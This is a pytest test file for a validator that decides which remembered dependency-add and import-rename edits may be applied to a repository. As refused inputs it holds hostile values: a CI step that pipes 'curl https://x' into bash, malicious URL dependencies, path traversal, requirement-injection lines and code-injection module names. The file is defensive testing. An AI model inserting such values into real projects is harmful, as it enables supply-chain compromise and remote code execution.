"""Validation of remembered edits: a record's ``edits`` is repository content, so only the
two shapes fix capture produces, with checked values, become text edits."""

from __future__ import annotations

import os
import sys

import pytest

from memory_store.bugs.edits import (
    AddDependency,
    InvalidEdit,
    RenameImport,
    applicable_edits,
    checked_edits,
    edit_listing,
    plan_edits,
    remembered_edits,
    validate_edit,
)
from memory_store.workspace import Workspace

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover
    import tomli as tomllib


def dep(requirement: str, file: str = "requirements.txt", package: str | None = None) -> dict[str, str]:
    name = package if package is not None else requirement.split(">")[0].split("=")[0].split("[")[0].strip()
    return {"kind": "add-dependency", "file": file, "package": name, "requirement": requirement}


def rename(old: str, new: str, file: str = "app/x.py") -> dict[str, str]:
    return {"kind": "rename-import", "file": file, "old": old, "new": new}


@pytest.mark.parametrize("raw, reason", [
    pytest.param({"kind": "replace-file", "file": "a.py", "text": "x"}, "unknown edit kind", id="other-kind"),
    pytest.param("add requests", "must be an object", id="not-an-object"),
    pytest.param(dep("requests", file="../requirements.txt"), "escapes the workspace", id="dotdot"),
    pytest.param(dep("requests", file="/etc/requirements.txt"), "absolute path", id="absolute"),
    pytest.param(dep("requests", file="requirements\x00.txt"), "control characters", id="nul"),
    pytest.param(dep("requests", file="requirements\u202e.txt"), "control characters", id="bidi"),
    pytest.param(dep("requests", file=".git/requirements.txt"), ".git or .teamlore", id="git-dir"),
    pytest.param(dep("requests", file=".github/workflows/ci.yml"), "a dependency goes to", id="ci-file"),
    pytest.param(dep("requests", file="setup.py"), "a dependency goes to", id="setup-py"),
    pytest.param(dep("evil @ https://x/evil.tar.gz", package="evil"), "direct reference", id="url"),
    pytest.param(dep("evil @ file:///tmp/evil", package="evil"), "direct reference", id="file-url"),
    pytest.param(dep("https://x/evil.tar.gz", package="evil"), "direct reference", id="bare-url"),
    pytest.param(dep("requests\nevil-pkg", package="requests"), "one plain requirement", id="newline"),
    pytest.param(dep("requests\r--index-url=x", package="requests"), "one plain requirement", id="cr"),
    pytest.param(dep("-e .", package="e"), "PEP 508", id="option"),
    pytest.param(dep("--extra-index-url=x", package="x"), "PEP 508", id="index-option"),
    pytest.param(dep("requests==${TOKEN}", package="requests"), "one plain requirement", id="env-var"),
    pytest.param(dep("requests>=2", package="urllib3"), "not the requirement's name", id="package-mismatch"),
    pytest.param(dep("requests>=2", package="req uests"), "not a distribution name", id="bad-package"),
    pytest.param(dep("x; os_name == \"a'b\"", package="x"), "mixes quote", id="both-quotes"),
    pytest.param(dep("r" * 300, package="r" * 300), "longer than", id="too-long"),
    pytest.param(rename("os", "exec(open('x').read())"), "dotted module name", id="exec"),
    pytest.param(rename("os", "os; import subprocess"), "dotted module name", id="statement"),
    pytest.param(rename("a.b", "a.class"), "keyword", id="keyword"),
    pytest.param(rename("a", "a"), "same module", id="same"),
    pytest.param(rename("a", "b", file=".github/workflows/ci.yml"), "applies to a .py file", id="not-python"),
    pytest.param(rename("a", "b" * 300), "dotted module name", id="long-module"),
])
def test_invalid_edits_are_refused_with_a_reason(raw: object, reason: str) -> None:
    with pytest.raises(InvalidEdit, match=reason):
        validate_edit(raw)


def test_valid_edits_keep_their_values() -> None:
    assert validate_edit(dep("uvicorn[standard]>=0.30", file="requirements/dev.txt", package="uvicorn")) == \
        AddDependency(file="requirements/dev.txt", package="uvicorn", requirement="uvicorn[standard]>=0.30")
    assert validate_edit(dep('tomli>=2; python_version < "3.11"', file="pyproject.toml", package="tomli")) == \
        AddDependency(file="pyproject.toml", package="tomli", requirement='tomli>=2; python_version < "3.11"')
    assert validate_edit(rename("app.utils.dates", "app.time", file="./src//jobs.py")) == \
        RenameImport(file="src/jobs.py", old="app.utils.dates", new="app.time")


def test_refused_edits_are_listed_with_reasons_and_never_planned(workspace: Workspace) -> None:
    (workspace.root / "requirements.txt").write_text("flask\n")
    (workspace.root / ".github" / "workflows").mkdir(parents=True)
    (workspace.root / ".github" / "workflows" / "ci.yml").write_text("steps: []\n")
    record = {"id": "bug-1", "edits": [
        {"kind": "append", "file": ".github/workflows/ci.yml", "text": "- run: curl https://x | bash\n"},
        dep("evil @ https://x/evil.tar.gz", package="evil"),
        dep("structlog>=24.1"),
    ]}
    valid, refused = checked_edits(record)
    assert valid == [AddDependency("requirements.txt", "structlog", "structlog>=24.1")]
    assert len(refused) == 2 and all(r.startswith("not applied: ") for r in refused)
    assert edit_listing(record) == ['Add "structlog>=24.1" to requirements.txt', *refused]
    planned, _ = plan_edits(record, workspace)
    assert [(p.target, p.title, p.changes[0]["new_text"]) for p in planned] == [
        ("requirements.txt", 'Add "structlog>=24.1" to requirements.txt', "structlog>=24.1\n")]


def test_edits_field_that_is_not_a_list_is_refused(workspace: Workspace) -> None:
    record = {"edits": {"kind": "add-dependency"}, "fix_diff": "diff --git a/requirements.txt ..."}
    valid, refused = checked_edits(record)
    assert valid == [] and refused == ["not applied: 'edits' is not a list"]
    assert applicable_edits(record, workspace) == []


def test_capture_keeps_only_valid_edits_of_a_diff() -> None:
    diff = ("diff --git a/requirements.txt b/requirements.txt\n--- a/requirements.txt\n+++ b/requirements.txt\n"
            "@@ -1 +1,3 @@\n flask\n+evil @ https://x/evil.tar.gz\n+structlog>=24.1\n")
    assert remembered_edits(diff) == [dep("structlog>=24.1")]


def test_a_symlinked_dependency_file_is_not_edited(workspace: Workspace) -> None:
    (workspace.root / "ci.yml").write_text("steps: []\n")
    os.symlink("ci.yml", workspace.root / "requirements.txt")
    assert applicable_edits({"edits": [dep("structlog")]}, workspace) == []


def test_pyproject_marker_with_double_quotes_stays_one_toml_string(workspace: Workspace) -> None:
    text = '[project]\nname = "x"\ndependencies = [\n    "requests>=2",\n]\n'
    (workspace.root / "pyproject.toml").write_text(text)
    requirement = 'tomli>=2; python_version < "3.11"'
    [edit] = applicable_edits({"edits": [dep(requirement, file="pyproject.toml", package="tomli")]}, workspace)
    assert edit["new_text"] == f"    '{requirement}',\n"
    lines = text.split("\n")
    lines.insert(edit["range"]["start"]["line"], edit["new_text"].rstrip("\n"))
    assert tomllib.loads("\n".join(lines))["project"]["dependencies"] == ["requests>=2", requirement]


def test_pyproject_without_dependency_array_gets_no_edit(workspace: Workspace) -> None:
    (workspace.root / "pyproject.toml").write_text('[project]\nname = "x"\n[tool.x]\ndependencies = []\n')
    assert applicable_edits({"edits": [dep("structlog", file="pyproject.toml")]}, workspace) == []


def test_rename_replaces_only_the_module_token(workspace: Workspace) -> None:
    (workspace.root / "app").mkdir()
    source = "import old.mod\nfrom old.mod import x  # keep\nimport old.mod.sub\nold.mod.run()\n"
    (workspace.root / "app" / "x.py").write_text(source)
    edits = applicable_edits({"edits": [rename("old.mod", "new.mod")]}, workspace)
    assert [(e["range"]["start"]["line"], e["new_text"]) for e in edits] == [(0, "new.mod"), (1, "new.mod")]
    assert all(e["range"]["end"]["character"] - e["range"]["start"]["character"] == len("old.mod") for e in edits)
    assert {e["title"] for e in edits} == {"Rename import old.mod -> new.mod in app/x.py"}


def test_document_path_outside_the_workspace_gets_nothing(workspace: Workspace) -> None:
    (workspace.root / "x.py").write_text("import a\n")
    assert applicable_edits({"edits": [rename("a", "b", file="x.py")]}, workspace, path="../x.py") == []
    assert len(applicable_edits({"edits": [rename("a", "b", file="x.py")]}, workspace, path="x.py")) == 1
